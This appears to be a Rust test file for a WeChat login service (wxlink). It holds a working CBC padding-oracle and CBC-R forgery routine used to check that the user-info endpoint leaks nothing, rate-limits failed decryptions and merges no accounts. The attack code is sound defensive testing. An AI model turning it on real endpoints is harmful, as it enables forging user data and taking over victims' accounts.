//! `user-info` is no decryption oracle: AES-CBC has no integrity, so a server that tells *why*
//! data did not open (bad padding, not UTF-8, not JSON, no openId) lets anyone encrypt any
//! plaintext under their own session_key (CBC-R) and name any unionid in it.
//!
//! The attacker here knows only a victim's unionid (shared by every app of the Open Platform
//! account), their own token, appid and openid, never their session_key. The per-session
//! budget across a restart is tested on the process in `tests/tests/api/oracle.rs`.

use std::time::Instant;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::helpers::{
    APP_A, APP_B, Api, Backend, FORGED_IV, Options, Reply, TestApp, assert_error, forged_body,
    identities, raw_block, unsigned_body, user_plaintext,
};

on_both_backends!(
    padding_oracle_forgery_gives_up_and_merges_nobody,
    every_failure_to_open_user_data_gets_one_answer,
    failed_decryptions_are_budgeted_per_identity_across_sessions,
    cancelling_the_account_does_not_reset_the_identity_budget,
    data_stamped_in_the_future_is_refused,
);

/// What the budget defaults to (`[security] max_failed_decrypts_per_session`).
const SESSION_BUDGET: usize = 5;
/// The bound of the attack: enough to forge seven blocks through a real oracle. Counted in
/// requests, not time, so a slow machine cannot fail it.
const MAX_ATTACK_REQUESTS: usize = 30_000;
/// Guesses sent at once; the oracle is the server, so the attack is as fast as it answers.
const IN_FLIGHT: usize = 16;

const BLOCK: usize = 16;

/// The answer stripped of what differs per request: status, code and message.
fn fingerprint(reply: &Reply) -> String {
    let error = serde_json::from_str::<Value>(&reply.body)
        .ok()
        .map(|v| v["error"].clone())
        .unwrap_or(Value::Null);
    format!("{} {} {}", reply.status, error["code"], error["message"])
}

fn too_many_attempts(reply: &Reply) -> bool {
    reply.status == 429 && reply.body.contains("\"too_many_attempts\"")
}

/// Why the attack stopped without a forgery.
#[derive(Debug, PartialEq, Eq)]
enum GaveUp {
    /// The server refused further attempts on the session.
    Refused,
    /// Every guess got the same answer: the server tells nothing.
    NoInformation,
    /// Out of requests.
    OutOfBounds,
    /// An answer no oracle gives (neither a decryption failure nor a refusal).
    Unexpected(String),
}

/// The attacker: a CBC padding oracle over `POST /v1/wechat/user-info`, bounded.
struct Oracle<'a> {
    app: &'a TestApp,
    token: String,
    requests: usize,
    /// Guesses the server answered as a decryption failure (information, on an oracle).
    answered: usize,
    started: Instant,
    /// The answer to data whose padding is wrong: the most common one.
    bad: Option<String>,
}

impl Oracle<'_> {
    /// Send one guess batch: (iv, one ciphertext block) each; answers in order.
    async fn ask(&mut self, guesses: &[([u8; BLOCK], [u8; BLOCK])]) -> Result<Vec<Reply>, GaveUp> {
        if self.requests + guesses.len() > MAX_ATTACK_REQUESTS {
            return Err(GaveUp::OutOfBounds);
        }
        self.requests += guesses.len();
        let mut tasks = tokio::task::JoinSet::new();
        for (i, (iv, block)) in guesses.iter().enumerate() {
            let body = json!({"encrypted_data": STANDARD.encode(block), "iv": STANDARD.encode(iv)});
            let (client, token) = (self.app.client(), self.token.clone());
            tasks.spawn(async move { (i, client.user_info(&token, &body).await) });
        }
        let mut replies: Vec<Option<Reply>> = vec![None; guesses.len()];
        while let Some(done) = tasks.join_next().await {
            let (i, reply) = done.expect("a guess task");
            replies[i] = Some(reply);
        }
        let replies: Vec<Reply> = replies.into_iter().flatten().collect();
        self.answered += replies.iter().filter(|r| r.status == 422).count();
        if replies.iter().any(too_many_attempts) {
            return Err(GaveUp::Refused);
        }
        if let Some(odd) = replies.iter().find(|r| r.status != 422) {
            return Err(GaveUp::Unexpected(format!("{} {}", odd.status, odd.body)));
        }
        Ok(replies)
    }

    /// Whether the padding of `iv ^ D(block)` was valid, for a batch of ivs.
    async fn valid_padding(
        &mut self,
        ivs: &[[u8; BLOCK]],
        block: [u8; BLOCK],
    ) -> Result<Vec<bool>, GaveUp> {
        let guesses: Vec<_> = ivs.iter().map(|iv| (*iv, block)).collect();
        let prints: Vec<String> = self.ask(&guesses).await?.iter().map(fingerprint).collect();
        if self.bad.is_none() {
            // Two equal answers in a batch of random guesses are the bad-padding answer.
            self.bad = prints
                .iter()
                .find(|p| prints.iter().filter(|q| q == p).count() > 1)
                .cloned();
        }
        let Some(bad) = &self.bad else {
            return Err(GaveUp::NoInformation);
        };
        Ok(prints.iter().map(|p| p != bad).collect())
    }

    /// `D(block)`, the AES decryption of one block under the attacker's own session_key, one
    /// byte at a time from the end.
    async fn decrypt_block(&mut self, block: [u8; BLOCK]) -> Result<[u8; BLOCK], GaveUp> {
        let mut plain = [0u8; BLOCK];
        for pos in (0..BLOCK).rev() {
            let pad = u8::try_from(BLOCK - pos).expect("a pad length");
            let mut iv = [0u8; BLOCK];
            for j in pos + 1..BLOCK {
                iv[j] = plain[j] ^ pad;
            }
            let mut found = None;
            'guesses: for chunk in (0..=255u8).collect::<Vec<_>>().chunks(IN_FLIGHT) {
                let ivs: Vec<_> = chunk
                    .iter()
                    .map(|&g| {
                        let mut iv = iv;
                        iv[pos] = g;
                        iv
                    })
                    .collect();
                let valid = self.valid_padding(&ivs, block).await?;
                for (&g, ok) in chunk.iter().zip(valid) {
                    if !ok {
                        continue;
                    }
                    // The last byte may have hit a longer pad (…02 02); a change to the byte
                    // before it tells.
                    if pos == BLOCK - 1 {
                        let mut check = iv;
                        check[pos] = g;
                        check[pos - 1] ^= 0x5a;
                        if !self.valid_padding(&[check], block).await?[0] {
                            continue;
                        }
                    }
                    found = Some(g);
                    break 'guesses;
                }
            }
            let g = found.ok_or(GaveUp::NoInformation)?;
            plain[pos] = g ^ pad;
        }
        Ok(plain)
    }

    /// CBC-R: an iv and ciphertext that decrypt to `plaintext` (PKCS#7 padded) under the
    /// session_key the attacker never saw.
    async fn forge(&mut self, plaintext: &[u8]) -> Result<([u8; BLOCK], Vec<u8>), GaveUp> {
        let pad = BLOCK - plaintext.len() % BLOCK;
        let mut padded = plaintext.to_vec();
        padded.extend(std::iter::repeat_n(u8::try_from(pad).expect("a pad"), pad));
        let blocks: Vec<&[u8]> = padded.chunks(BLOCK).collect();
        let mut next = [0x42u8; BLOCK];
        let mut ciphertext = next.to_vec();
        for block in blocks.iter().rev() {
            let decrypted = self.decrypt_block(next).await?;
            let mut previous = [0u8; BLOCK];
            for j in 0..BLOCK {
                previous[j] = decrypted[j] ^ block[j];
            }
            ciphertext.splice(0..0, previous);
            next = previous;
        }
        // The first "ciphertext" block is the iv.
        let iv: [u8; BLOCK] = ciphertext[..BLOCK].try_into().expect("an iv");
        Ok((iv, ciphertext[BLOCK..].to_vec()))
    }
}

/// A real padding-oracle forgery (CBC-R) against wxlink: it must give up, within the
/// budget, and merge nobody.
async fn padding_oracle_forgery_gives_up_and_merges_nobody(backend: Backend) {
    let app = TestApp::spawn(backend, Options::default()).await;
    // The victim owns unionid U (APP_B tells it at login).
    let victim = app.login(APP_B, "victim-in-b", Some("victim-union")).await;
    assert!(victim.unionid_linked);
    // The attacker: a mini program whose code2Session tells no unionid.
    let attacker = app.login(APP_A, "mallory", None).await;
    assert!(!attacker.unionid_linked);

    let plaintext = json!({
        "openId": "mallory",
        "unionId": "victim-union",
        "watermark": {"appid": APP_A, "timestamp": app.now()},
    })
    .to_string();
    let mut oracle = Oracle {
        app: &app,
        token: attacker.token.clone(),
        requests: 0,
        answered: 0,
        started: Instant::now(),
        bad: None,
    };
    let outcome = oracle.forge(plaintext.as_bytes()).await;
    let (requests, answered) = (oracle.requests, oracle.answered);
    let elapsed = oracle.started.elapsed();
    eprintln!(
        "the oracle attack used {requests} requests ({answered} answered) in {elapsed:?}: {:?}",
        outcome.as_ref().map(|_| "forged")
    );
    if let Ok((iv, ciphertext)) = &outcome {
        let body =
            json!({"encrypted_data": STANDARD.encode(ciphertext), "iv": STANDARD.encode(iv)});
        let reply = app.user_info(&attacker.token, &body).await;
        eprintln!("the forged data got {} {}", reply.status, reply.body);
    }

    let me = app.me_ok(&attacker.token).await;
    assert_eq!(
        me.identities,
        identities(&[(APP_A, "mallory")]),
        "the attacker's token acts as the victim after {requests} requests"
    );
    assert_ne!(me.user_id, victim.user_id);
    let victim_now = app.me_ok(&victim.token).await;
    assert_eq!(victim_now.identities, identities(&[(APP_B, "victim-in-b")]));
    let snapshot = app.snapshot();
    assert!(
        !snapshot.events.iter().any(|e| e.kind == "users_merged"),
        "a merge happened: {:?}",
        snapshot.events
    );
    assert_eq!(outcome.err(), Some(GaveUp::Refused));
    assert!(
        answered <= SESSION_BUDGET && requests <= 2 * IN_FLIGHT,
        "the server answered {answered} of {requests} guesses before refusing"
    );
}

/// The request id cut out of a body, so the rest can be compared byte for byte.
fn without_request_id(reply: &Reply) -> String {
    let id = reply.header("x-request-id").expect("an x-request-id");
    reply.body.replace(id, "")
}

/// Bad padding, not UTF-8, not JSON, no openId, a malformed openId: built under the attacker's
/// real session_key, each fails differently inside, and all get the same answer.
async fn every_failure_to_open_user_data_gets_one_answer(backend: Backend) {
    let app = TestApp::spawn(backend, Options::default()).await;
    let iv = FORGED_IV;
    let watermark = json!({"appid": APP_A, "timestamp": app.now()});
    let mut answers = Vec::new();
    // Once without and once with `raw_data` + `signature` (a session each, for the budget):
    // the signature is checked only after every field was read, so it cannot tell a malformed
    // field from the rest either.
    for signed in [false, true] {
        let (wx, login) = app.login_full(APP_A, "mallory", None).await;
        let key = wx.session_key.as_str();
        let encrypted = |plain: &[u8]| wxlink_crypto::encrypt(key, iv, plain).expect("encrypt");
        let kinds: Vec<(&str, String)> = vec![
            ("bad padding", raw_block(key, iv, b"padding is wrong")),
            ("not UTF-8", encrypted(b"\xff\xfe\xfd")),
            ("not JSON", encrypted(b"this is not json")),
            (
                "no openId",
                encrypted(json!({"watermark": watermark}).to_string().as_bytes()),
            ),
            (
                "malformed openId",
                encrypted(
                    json!({"openId": "no spaces allowed", "watermark": watermark})
                        .to_string()
                        .as_bytes(),
                ),
            ),
        ];
        assert!(
            kinds.len() <= SESSION_BUDGET,
            "all within one session's budget"
        );
        for (what, data) in kinds {
            let mut body = json!({"encrypted_data": data, "iv": iv});
            if signed {
                body["raw_data"] = json!("{\"nickName\":\"mallory\"}");
                body["signature"] = json!("0".repeat(40));
            }
            let what = format!("{what}{}", if signed { ", signed" } else { "" });
            let reply = app.user_info(&login.token, &body).await;
            assert_error(&reply, 422, "decrypt_failed", &what);
            answers.push((what, reply));
        }
        assert_eq!(app.me_ok(&login.token).await.identities.len(), 1);
    }
    let (first_what, first) = &answers[0];
    let id_len = |r: &Reply| r.header("x-request-id").map_or(0, str::len);
    // The HTTP stack adds content-length from the body's size; in-process the body is it.
    let length = |r: &Reply| {
        r.header("content-length").map_or(r.body.len(), |l| {
            l.parse::<usize>().expect("a numeric content-length")
        }) - id_len(r)
    };
    for (what, reply) in &answers[1..] {
        assert_eq!(
            without_request_id(reply),
            without_request_id(first),
            "{what} and {first_what} are told apart"
        );
        assert_eq!(reply.status, first.status, "{what}");
        assert_eq!(
            reply.header("content-type"),
            first.header("content-type"),
            "{what}"
        );
        assert_eq!(length(reply), length(first), "{what}");
    }
}

/// Logging in again does not reset the identity's own budget
/// (`max_failed_decrypts_per_identity_per_day`, here 7): WeChat only says a new `wx.login`
/// "may" rotate the session_key.
async fn failed_decryptions_are_budgeted_per_identity_across_sessions(backend: Backend) {
    let app = spend_the_identity_budget_over_three_logins(backend, false).await;
    // Other identities keep their own budget.
    let other = app.login(APP_A, "someone-else", None).await;
    let genuine = app.wx_user_info(APP_A, "someone-else");
    app.user_info_ok(&other.token, &unsigned_body(&genuine))
        .await;
}

/// Cancelling deletes the identity, and the same WeChat user comes back as a new user: the
/// identity's daily budget (here 7) still counts what the cancelled accounts spent, so
/// login, failures, `DELETE /v1/me`, login… is refused at the cap like one long session.
async fn cancelling_the_account_does_not_reset_the_identity_budget(backend: Backend) {
    spend_the_identity_budget_over_three_logins(backend, true).await;
}

/// Three logins of one identity with a daily budget of 7, three failed decryptions each (the
/// account cancelled after each login when `cancel`): the first 7 are `decrypt_failed`, the
/// rest `too_many_attempts`.
async fn spend_the_identity_budget_over_three_logins(backend: Backend, cancel: bool) -> TestApp {
    let options =
        Options::default().security_toml("max_failed_decrypts_per_identity_per_day = 7\n");
    let app = TestApp::spawn(backend, options).await;
    let mut failures = 0;
    for login_number in 1..=3 {
        let (wx, login) = app.login_full(APP_A, "mallory", None).await;
        let garbage = json!({
            "encrypted_data": raw_block(&wx.session_key, FORGED_IV, b"padding is wrong"),
            "iv": FORGED_IV,
        });
        for _ in 0..3 {
            let reply = app.user_info(&login.token, &garbage).await;
            let context = format!("login {login_number}, after {failures} failures");
            if failures < 7 {
                assert_error(&reply, 422, "decrypt_failed", &context);
                failures += 1;
            } else {
                // The identity's daily budget: logging in again cannot help, so the answer
                // does not say to, and tells when the day's window starts again.
                let message = assert_error(&reply, 429, "too_many_attempts", &context);
                assert!(
                    message.contains("daily") && !message.contains("log in again"),
                    "{context}: {message}"
                );
                let retry_after: u64 = reply
                    .header("retry-after")
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| panic!("{context}: no Retry-After: {:?}", reply.headers));
                assert!(
                    (1..=24 * 3600).contains(&retry_after),
                    "{context}: Retry-After {retry_after}"
                );
            }
        }
        if cancel {
            let cancelled = app.cancel(&login.token, APP_A, "mallory").await;
            assert_eq!(cancelled.status, 204, "{}", cancelled.body);
        }
    }
    app
}

/// One watermark check (wxlink-crypto's) bounds both ends: data stamped years ahead does not
/// outlive the age limit, and turning the age limit off does not let it in either.
async fn data_stamped_in_the_future_is_refused(backend: Backend) {
    for max_watermark_age_secs in [None, Some(0)] {
        let options = Options {
            max_watermark_age_secs,
            ..Options::default()
        };
        let app = TestApp::spawn(backend.clone(), options).await;
        let (wx, login) = app
            .login_full(APP_A, "mallory", Some("mallory-union"))
            .await;
        let years_ahead = app.now() + 5 * 365 * 24 * 3600;
        let body = forged_body(
            &wx.session_key,
            &user_plaintext("mallory", Some("mallory-union"), APP_A, years_ahead),
        );
        let reply = app.user_info(&login.token, &body).await;
        assert_error(
            &reply,
            422,
            "watermark_in_future",
            &format!("stamped five years ahead, max_watermark_age_secs {max_watermark_age_secs:?}"),
        );
        assert!(!app.me_ok(&login.token).await.unionid_linked);
    }
}
